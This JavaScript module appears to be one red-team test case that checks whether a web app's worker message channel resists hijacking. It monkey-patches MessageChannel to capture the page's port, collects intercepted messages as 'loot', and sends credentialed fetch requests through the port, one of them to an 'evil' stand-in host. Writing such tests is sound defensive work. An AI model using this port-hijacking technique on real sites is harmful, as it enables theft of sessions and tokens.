// A real attacker: takes the page's end of the channel as it is made, and talks to the worker in the application's
// place.
export default {
  row: "messages",
  expected: ["loses", "loses"],
  before: (redteam) => {
    const { MessageChannel } = globalThis;
    redteam.ports = [];
    globalThis.MessageChannel = class extends MessageChannel {
      constructor() {
        super();
        redteam.ports.push(this.port1);
        this.port1.addEventListener("message", ({ data }) => redteam.loot(data));
      }
    };
  },
  after: async ({ api, evil, home }) => {
    const { redteam } = globalThis;
    const port = redteam.ports[0];
    const init = { method: "GET", credentials: "include", mode: "cors", redirect: "follow" };
    let id = 9000;
    for (const url of [`${api}/v1/me`, `${evil}/v1/me`, `${home}/auth/refresh`, `${api}/echo-headers`]) {
      port.postMessage([0, ++id, url, [], init, true]);
    }
    await new Promise((resolve) => setTimeout(resolve, 800));
    return redteam.ports.length;
  },
};
